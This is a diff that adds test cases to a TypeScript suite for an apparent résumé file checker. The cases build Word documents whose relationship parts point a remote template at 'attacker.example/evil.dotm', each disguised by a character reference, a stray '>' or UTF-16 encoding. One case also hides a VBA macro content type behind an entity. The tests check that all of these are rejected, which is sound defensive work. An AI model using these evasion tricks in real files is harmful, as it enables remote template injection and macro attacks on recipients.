@@ -98,6 +98,35 @@ describe("a résumé is what its bytes say", () => {
       });
       expect(await checkResume(remote, "cv.docx"), type).toEqual({ ok: false, problem: "docx-external" });
     }
+    // The same parts written as XML allows: a character reference, a ">" inside a value, UTF-16.
+    const rels = (attributes: string) =>
+      `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" ${attributes}/></Relationships>`;
+    const template = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate";
+    const disguised: [string, string | Buffer][] = [
+      ["a character reference", rels(`Type="${template}" Target="http://attacker.example/evil.dotm" TargetMode="Ex&#116;ernal"`)],
+      ["a > inside a value", rels(`Type="${template}" Target="http://attacker.example/evil.dotm#>" TargetMode="External"`)],
+      [
+        "UTF-16",
+        Buffer.concat([
+          Buffer.from([0xff, 0xfe]),
+          Buffer.from(
+            rels(`Type="${template}" Target="http://attacker.example/evil.dotm" TargetMode="External"`).replace("UTF-8", "UTF-16"),
+            "utf16le",
+          ),
+        ]),
+      ],
+    ];
+    for (const [how, data] of disguised) {
+      const remote = await makeDocx({ extra: [{ name: "word/_rels/settings.xml.rels", data }] });
+      expect(await checkResume(remote, "cv.docx"), how).toEqual({ ok: false, problem: "docx-external" });
+    }
+    const encodedMacro = await makeDocx({
+      contentTypesExtra: '<Default Extension="bin" ContentType="application/vnd.ms-office.vba&#80;roject"/>',
+    });
+    expect(await checkResume(encodedMacro, "cv.docx")).toEqual({ ok: false, problem: "docx-macros" });
+    // A part that is not XML at all is not a Word document.
+    const broken = await makeDocx({ extra: [{ name: "word/_rels/settings.xml.rels", data: Buffer.from([0xc3, 0x28, 0x3c]) }] });
+    expect(await checkResume(broken, "cv.docx")).toEqual({ ok: false, problem: "zip-not-docx" });
     // A link to the candidate's profile is an ordinary hyperlink, and welcome.
     const linked = await makeDocx({
       extra: [
